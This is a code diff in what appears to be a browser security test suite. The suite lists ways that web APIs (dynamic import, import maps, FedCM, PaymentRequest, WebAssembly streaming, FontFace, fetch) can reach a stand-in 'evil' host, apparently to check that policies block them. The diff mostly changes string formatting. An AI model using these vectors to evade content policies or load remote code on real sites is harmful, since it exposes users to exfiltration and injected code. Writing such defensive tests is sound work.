@@ -47,15 +47,15 @@ export default {
     await sleep(800);
   },
   PaymentRequest: ({ evil }) => {
-    const methods = [{ supportedMethods: evil.replace("http:", "https:") + "/pay" }];
+    const methods = [{ supportedMethods: `${evil.replace("http:", "https:")}/pay` }];
     return new PaymentRequest(methods, {
       total: { label: "x", amount: { currency: "EUR", value: "1" } },
     }).canMakePayment();
   },
   FedCM: ({ evil }) =>
-    navigator.credentials.get({ identity: { providers: [{ configURL: evil + "/fedcm.json", clientId: "x" }] } }),
+    navigator.credentials.get({ identity: { providers: [{ configURL: `${evil}/fedcm.json`, clientId: "x" }] } }),
   "FedCM's disconnect": ({ evil }) =>
-    IdentityCredential.disconnect({ configURL: evil + "/fedcm.json", clientId: "x", accountHint: "x" }),
+    IdentityCredential.disconnect({ configURL: `${evil}/fedcm.json`, clientId: "x", accountHint: "x" }),
   "a report of a policy": ({ evil }) => {
     document.head.append(
       Object.assign(document.createElement("meta"), {
@@ -65,21 +65,21 @@ export default {
     );
     new Image().src = "data:,x";
     void new Image();
-    fetch(evil, { mode: "no-cors" });
+    void fetch(evil, { mode: "no-cors" });
   },
   "an import map": async ({ evil }) => {
     document.head.append(
       Object.assign(document.createElement("script"), {
         type: "importmap",
-        textContent: JSON.stringify({ imports: { x: evil + "/x.js" } }),
+        textContent: JSON.stringify({ imports: { x: `${evil}/x.js` } }),
       }),
     );
     return import("x");
   },
-  import: ({ evil }) => import(evil + "/x.js"),
-  "import of JSON": ({ evil }) => import(evil + "/x.json", { with: { type: "json" } }),
-  "import of CSS": ({ evil }) => import(evil + "/x.css", { with: { type: "css" } }),
-  "import in a function": ({ evil }) => Function("url", "return import(url)")(evil + "/x.js"),
+  import: ({ evil }) => import(`${evil}/x.js`),
+  "import of JSON": ({ evil }) => import(`${evil}/x.json`, { with: { type: "json" } }),
+  "import of CSS": ({ evil }) => import(`${evil}/x.css`, { with: { type: "css" } }),
+  "import in a function": ({ evil }) => Function("url", "return import(url)")(`${evil}/x.js`),
   "import in a timer": ({ evil }) => void setTimeout(`import("${evil}/x.js")`),
   "WebAssembly by stream": ({ evil }) => WebAssembly.compileStreaming(fetch(evil)),
   FontFace: ({ evil }) => new FontFace("f", `url(${evil}/f)`).load(),
